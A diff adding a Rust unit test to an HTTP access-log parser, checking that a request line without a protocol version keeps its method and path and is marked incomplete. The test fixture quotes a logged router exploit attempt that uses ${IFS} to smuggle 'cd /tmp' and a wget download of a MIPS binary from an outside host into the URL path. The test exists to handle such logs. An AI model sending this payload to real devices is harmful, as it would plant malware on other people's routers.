@@ -361,6 +361,24 @@ mod tests {
         assert_eq!(ev.unparsed_request, None);
     }
 
+    /// A line sent without its protocol (HTTP/0.9, or a router exploit written by hand, as a
+    /// family site's log holds one) has its method and path, and stays on record as incomplete.
+    #[test]
+    fn line_without_protocol_has_its_path_and_stays_incomplete() {
+        let line = r#"198.51.100.1 - - [20/Mar/2024:21:14:43 +0300] "GET /bin/zhttpd/${IFS}cd${IFS}/tmp;${IFS}wget${IFS}http://203.0.113.9/mips;" 400 264 "-" "-""#;
+        let ev = decode_line(line).unwrap();
+        assert_eq!(ev.method.as_deref(), Some("GET"));
+        assert_eq!(
+            ev.target.as_deref(),
+            Some("/bin/zhttpd/${IFS}cd${IFS}/tmp;${IFS}wget${IFS}http://203.0.113.9/mips;")
+        );
+        assert_eq!(ev.http_version, None);
+        assert!(ev
+            .unparsed_request
+            .as_deref()
+            .is_some_and(|u| u.starts_with("GET /bin/zhttpd/")));
+    }
+
     /// A line cut short inside its user agent or referer (as pff's tests quote a real one) is
     /// the request it records, with what was logged of the field.
     #[test]
